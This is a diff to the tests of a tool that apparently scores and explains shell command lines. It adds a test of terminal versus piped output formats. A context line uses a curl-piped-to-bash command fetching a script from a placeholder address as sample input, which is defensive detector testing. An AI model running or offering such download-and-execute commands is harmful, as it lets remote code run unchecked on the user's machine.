@@ -133,6 +133,19 @@ def test_text_for_people_cannot_steer_the_terminal(model_dir, tmp_path, capsysbi
     assert "\\x1b[31m" in text
 
 
+def test_a_terminal_gets_text_for_people_and_a_pipe_gets_rows(model_dir, tmp_path, capsysbinary, monkeypatch):
+    path = tmp_path / "lines.txt"
+    path.write_text("ls\n")
+    command = ["score", str(path), "--model", str(model_dir), "--explain"]
+    assert main(command) == 0
+    assert json.loads(capsysbinary.readouterr().out)["command_line"] == "ls"
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    assert main(command) == 0
+    assert capsysbinary.readouterr().out.decode().splitlines()[1].strip() == "ls"
+    assert main([*command, "--out-format", "jsonl"]) == 0
+    assert json.loads(capsysbinary.readouterr().out)["spans"] == []
+
+
 def test_text_for_people_marks_the_spans_of_the_line(model_dir, tmp_path, capsysbinary):
     line = "curl -s http://198.51.100.9/x.sh | bash"
     shown = explained(model_dir, tmp_path, capsysbinary, line, form="text").splitlines()
